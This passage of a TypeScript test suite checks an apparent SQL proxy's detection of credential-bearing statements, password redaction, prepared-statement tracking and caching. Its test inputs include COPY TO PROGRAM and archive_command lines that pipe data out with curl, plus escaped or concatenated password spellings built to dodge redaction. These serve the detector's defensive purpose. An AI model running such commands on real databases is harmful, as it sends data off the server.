    "CREATE SUBSCRIPTION s CONNECTION 'host=h password=x' PUBLICATION p",
    "ALTER SUBSCRIPTION s CONNECTION 'postgresql://u:x@h/db'",
    "SELECT dblink_connect('c', 'host=h password=x')",
    "SELECT * FROM public.dblink('host=h password=x', 'select 1') AS t(a int)",
    "ALTER SYSTEM SET primary_conninfo = 'host=h password=x'",
    "DO $$ BEGIN PERFORM dblink_connect('host=h password=x'); END $$",
    "CREATE FUNCTION f() RETURNS text AS $$ SELECT dblink_connect('postgresql://u:x@h/db') $$ LANGUAGE sql",
    "PREPARE c(text) AS SELECT dblink_connect($1)",
    "ALTER SYSTEM SET archive_command = 'curl -T %p https://u:x@backup/%f'",
    "COPY t TO PROGRAM 'curl -T - https://u:x@backup/t'",
  ]) {
    t.ok(names(sql), sql);
  }
  for (const sql of ['SELECT password FROM users', "UPDATE users SET password = 'x'", 'DROP USER MAPPING FOR app SERVER remote', 'CREATE TABLE t (password text)', 'DROP SUBSCRIPTION s', 'DO $$ BEGIN PERFORM 1; END $$', "EXECUTE c('x')"]) {
    t.notOk(names(sql), sql);
  }
});

t.test('withoutPassword: a statement is shown up to its first password, keyword or URI form', async (t) => {
  t.equal(withoutPassword("ALTER ROLE r PASSWORD 'x'"), 'ALTER ROLE r PASSWORD [redacted]');
  t.equal(withoutPassword("ALTER SUBSCRIPTION s CONNECTION 'host=h sslpassword=x password=y'"), "ALTER SUBSCRIPTION s CONNECTION 'host=h sslpassword [redacted]");
  t.equal(withoutPassword("ALTER SUBSCRIPTION s CONNECTION 'postgresql://u:p#ss?w rd@h/db'"), "ALTER SUBSCRIPTION s CONNECTION 'postgresql://u: [redacted]", 'a URI password may hold # ? and spaces');
  t.equal(withoutPassword("CREATE SUBSCRIPTION s CONNECTION 'postgres://h/db?p%61ssword=x' PUBLICATION p"), "CREATE SUBSCRIPTION s CONNECTION 'postgres://h/db? [redacted]", 'a percent-encoded query is withheld');
  t.equal(withoutPassword("ALTER USER MAPPING FOR a SERVER s OPTIONS (SET oauth_client_secret 'x')"), 'ALTER USER MAPPING FOR a SERVER s OPTIONS (SET oauth_client_secret [redacted]');
  t.equal(withoutPassword("CREATE SUBSCRIPTION s CONNECTION 'postgresql://u@h/db' PUBLICATION p"), "CREATE SUBSCRIPTION s CONNECTION 'postgresql://u@h/db' PUBLICATION p", 'no password: unchanged');
  // A keyword spelled with escapes, or assembled: nothing after the escaped or concatenated literal is shown.
  t.equal(withoutPassword(`CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'u', U&"p\\0061ssword" 'hunter2')`), `CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'u', U&" [redacted]`);
  t.equal(withoutPassword("CREATE SUBSCRIPTION s CONNECTION E'host=h p\\x61ssword=hunter2' PUBLICATION p"), "CREATE SUBSCRIPTION s CONNECTION E' [redacted]");
  t.equal(withoutPassword("DO $$ BEGIN PERFORM f('pass' || 'word=hunter2'); END $$"), "DO $$ BEGIN PERFORM f('pass' || [redacted]");
  // A dblink call's arguments are expressions that can assemble anything: never shown.
  t.equal(withoutPassword("SELECT dblink_connect(format('host=h %sword=%s', 'pass', 'hunter2'))"), 'SELECT dblink_connect( [redacted]');
  t.equal(withoutPassword("SELECT dblink('postgresql://u@h/db', 'select 1')"), 'SELECT dblink( [redacted]');
  t.equal(withoutPassword("SELECT 'it''s' AS e"), "SELECT 'it''s' AS e", "a quote doubled inside a literal is not an E'' literal");
  t.equal(withoutPassword("CREATE SUBSCRIPTION s CONNECTION 'host=h pass'\n  'word=hunter2' PUBLICATION p"), "CREATE SUBSCRIPTION s CONNECTION 'host=h pass'\n  ' [redacted]", 'two literals SQL joins across a line break');
  t.equal(withoutPassword(`SELECT "dblink_connect"(format('%sword=%s', 'pass', 'x'))`), 'SELECT "dblink_connect"( [redacted]', 'a quoted dblink name');
  t.equal(withoutPassword("SELECT dblink_connect/**/(concat('pass', 'word=x'))"), 'SELECT dblink_connect/**/( [redacted]', 'a comment before its (');
  t.equal(withoutArguments("EXECUTE c('host=h', 'secret')"), 'EXECUTE c( [redacted]');
});

t.test('PreparedCredentials: what a session prepared from a credential statement, by name', async (t) => {
  const p = new PreparedCredentials();
  const exec = (sql: string) => p.executes(one(sql));
  t.notOk(exec("EXPLAIN EXECUTE c('x')"), 'nothing remembered: nothing hidden');
  p.notePrepares([one('PREPARE c(text) AS SELECT dblink_connect($1)'), one('PREPARE d AS SELECT 1')]);
  t.ok(exec("EXECUTE c('x')"));
  t.ok(exec("EXPLAIN ANALYZE EXECUTE c('x')"));
  t.ok(exec("EXPLAIN EXECUTE d"), 'a plain EXPLAIN names nothing: any EXECUTE under it');
  t.notOk(exec('EXECUTE d'), 'another statement');
  p.remember('link');
  t.ok(p.has('link') && exec("EXECUTE link('x')"), 'a Parse name counts for SQL EXECUTE');
  p.forget('link');
  t.notOk(p.has('link'), 'closed: forgotten');
  p.remember('');
  t.notOk(p.has(''), 'the unnamed statement is no EXECUTE\'s');
  for (let i = 0; i < 1100; i++) p.remember(`s${i}`);
  t.ok(exec("EXECUTE never_prepared('x')"), 'past the names it remembers, every EXECUTE is hidden (fail closed)');
});

t.test('fingerprints are keyed: the approvals API shows them, and nobody can recompute one', async (t) => {
  const sql = "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'a', password 'x')";
  useFingerprintKey(Buffer.alloc(32, 1));
  const one1 = fingerprint(one(sql));
  t.equal(fingerprint(one(sql)), one1, 'the same key, the same fingerprint');
  useFingerprintKey(Buffer.alloc(32, 2));
  t.not(fingerprint(one(sql)), one1, 'another key, another fingerprint');
  useFingerprintKey(Buffer.alloc(32, 1));
  t.equal(fingerprint(one(sql)), one1, 'the first key again: the first fingerprint (a restart with the state dir\'s key)');
  t.throws(() => useFingerprintKey(Buffer.alloc(8)), /32 bytes/);
});

t.test('cache: repeated text is a hit, results are frozen and shared', async (t) => {
  classifierCache.clear();
  const sql = "SELECT * FROM cache_probe WHERE a = 'one'";
  const first = classifySql(sql);
  const second = classifySql(sql);
  t.equal(second, first, 'same frozen result');
  t.same(classifierCache.stats().hits, 1);
  t.same(classifierCache.stats().misses, 1);
  classifyPrepared(sql);
  t.same(classifierCache.stats().hits, 2, 'classifyPrepared shares the cache');
  t.ok(Object.isFrozen(first[0]) && Object.isFrozen(first[0]!.kinds));
  t.throws(() => {
    (first[0]!.kinds as string[]).push('x');
  });

  const small = new ClassifierCache(2, 10);
  small.set('a', { facts: [] });
  small.set('b', { facts: [] });
  small.get('a'); // a is now most recent
  small.set('c', { facts: [] });
  t.ok(small.get('a') && small.get('c'));
  t.equal(small.get('b'), undefined, 'least recently used evicted');
  small.set('x'.repeat(11), { facts: [] });
  t.equal(small.stats().size, 2, 'texts over the cap are not cached');

  const hot = new ClassifierCache(4, 100);
  hot.set('hot', { facts: [] });
  for (let i = 0; i < 20; i++) {
    hot.set(`cold ${i}`, { facts: [] });
    t.ok(hot.get('hot'), `an entry hit between insertions is never evicted (${i})`);
  }
  t.equal(hot.get('cold 0'), undefined, 'entries never hit are');

  const bytes = new ClassifierCache(100, 100, 10);
  bytes.set('12345', { facts: [] });
  bytes.set('67890', { facts: [] });
  bytes.set('abc', { facts: [] });
  t.equal(bytes.stats().size, 2, 'total size bounded');
  t.ok(bytes.stats().chars <= 10);
});

t.test('large statements', async (t) => {
  const values = Array.from({ length: 400 }, (_, i) => `(${i}, 'row ${i}')`).join(', ');
  const sql = `INSERT INTO big VALUES ${values}`;
  t.ok(sql.length > 4000);
  const f = one(sql);
  t.same(f.kinds, ['insert']);
  t.same(f.tables, ['big']);
  const long = `SELECT ${Array.from({ length: 500 }, (_, i) => `lower(c${i})`).join(', ')} FROM t`;
  t.same(one(long).functions, ['lower']);
});

t.test('micro measurement (informational)', async (t) => {
  const make = (tag: string) =>
    Array.from({ length: 300 }, (_, i) => `SELECT a, b FROM ${tag}${i} JOIN u ON u.id = ${tag}${i}.id WHERE x = ${i} AND y IN (SELECT z FROM w)`);
  for (const s of make('warmup')) classifySql(s); // JIT warm-up: measure the steady state
  const statements = make('t');
  let start = process.hrtime.bigint();
  for (const s of statements) classifySql(s);
  const cold = Number(process.hrtime.bigint() - start) / 1000 / statements.length;
  start = process.hrtime.bigint();
  for (let r = 0; r < 10; r++) for (const s of statements) classifySql(s);
  const warm = Number(process.hrtime.bigint() - start) / 1000 / statements.length / 10;
  t.comment(`classifySql: ${cold.toFixed(1)} µs cold (parse + walk), ${warm.toFixed(2)} µs cached`);
  t.pass('measured');
});

t.test('numeric literals share one parse without changing what is classified', async (t) => {
  classifierCache.clear();
  const a = classifySql('SELECT abalance FROM pgbench_accounts WHERE aid = 17');
  const b = classifySql('SELECT abalance FROM pgbench_accounts WHERE aid = 42');
  t.same(classifierCache.stats(), { hits: 1, misses: 1, size: 1, chars: 'SELECT abalance FROM pgbench_accounts WHERE aid = 10'.length });
  t.equal(a[0]!.text, 'SELECT abalance FROM pgbench_accounts WHERE aid = 17', 'facts carry the real text');
  t.equal(b[0]!.text, 'SELECT abalance FROM pgbench_accounts WHERE aid = 42');
  t.same(a[0]!.kinds, b[0]!.kinds);
  // A number whose zero-ness matters keeps it.
  t.ok(classifySql('EXPLAIN (ANALYZE 1) DELETE FROM t')[0]!.kinds.includes('delete'));
  t.notOk(classifySql('EXPLAIN (ANALYZE 0) DELETE FROM t')[0]!.kinds.includes('delete'));
  // Digits that are part of names, strings, parameters and comments are never touched.
  t.equal(literalShape('select 12 from t1 where "c3" = $2 and x = \'a5\' -- 7'), 'select 10 from t1 where "c3" = $2 and x = \'a5\' -- 7');
  t.same(classifySql('select * from "9"')[0]!.tables, ['9']);
  t.same(classifySql('select * from "8"')[0]!.tables, ['8']);
  // A -- comment ends at CR as the server's lexer ends it: what follows the CR is code, so the
  // quoted identifier after it is left alone and the shape names the table the server reads.
  const crComment = 'SELECT 1 --\r, \'\n"\' AS a FROM U&"!0073ecrets" UESCAPE \'!\' -- "';
  t.equal(literalShape(crComment), crComment, 'no digit inside the quoted name is rewritten');
  t.same(classifyQuery(crComment).facts()[0]!.tables, ['secrets'], 'the table the server reads');
  t.same(classifySql('SELECT 1 --\r, 2')[0]!.kinds, ['select']);
  // Where the lexer is not sure of its footing, the text is its own key.
  for (const sql of ["select e'\\'' , 1", 'select $$ " $$, 1', "select b'1' , 2", 'select 1 /* unterminated']) {
    t.equal(literalShape(sql), sql, sql);
  }
  // Statement boundaries of a multi-statement message survive the shaping.
  t.same(classifySql('SELECT 1; DELETE FROM t WHERE id = 99').map((f) => f.text), ['SELECT 1', 'DELETE FROM t WHERE id = 99']);
  // Later hits on the same shape find each statement at the offsets kept from the first.
  t.same(classifySql('SELECT 7; DELETE FROM t WHERE id = 12;').map((f) => f.text), ['SELECT 7', 'DELETE FROM t WHERE id = 12']);
  t.same(classifySql('  SELECT 5 ;DELETE FROM t WHERE id = 31').map((f) => f.text), ['SELECT 5', 'DELETE FROM t WHERE id = 31']);
  t.same(classifySql('  SELECT 6 ;DELETE FROM t WHERE id = 84').map((f) => f.text), ['SELECT 6', 'DELETE FROM t WHERE id = 84']);
  t.ok(Object.isFrozen(classifySql('SELECT 8; DELETE FROM t WHERE id = 13')[1]), 'facts with the real text are frozen too');
});

t.test('classifyQuery: the shape\'s shared facts, the real texts, and facts with them built only on demand', async (t) => {
  classifierCache.clear();
  const a = classifyQuery('SELECT abalance FROM pgbench_accounts WHERE aid = 17; DELETE FROM t WHERE id = 5');
  const b = classifyQuery('SELECT abalance FROM pgbench_accounts WHERE aid = 42; DELETE FROM t WHERE id = 6');
  t.equal(a.shared, b.shared, 'queries of one shape share one facts array');
  t.ok(Object.isFrozen(a.shared) && a.shared.every((f) => Object.isFrozen(f)), 'shared facts are frozen');
  t.equal(a.length, 2);
  t.same([b.text(0), b.text(1)], ['SELECT abalance FROM pgbench_accounts WHERE aid = 42', 'DELETE FROM t WHERE id = 6']);
  const facts = b.facts();
  t.same(facts.map((f) => f.text), [b.text(0), b.text(1)], 'facts() carry the real texts');
  t.same(facts.map((f) => f.kinds), b.shared.map((f) => f.kinds), 'and everything else of the shape');
  t.equal(b.facts(), facts, 'built once');
  t.not(facts, b.shared);
  // A query that is its own shape: its facts are the cached ones.
  const own = classifyQuery('SELECT name FROM users');
  t.equal(own.facts(), own.shared);
  t.equal(own.text(0), 'SELECT name FROM users');
  t.throws(() => classifyQuery('SELECT * FORM t'), SqlParseError);
});
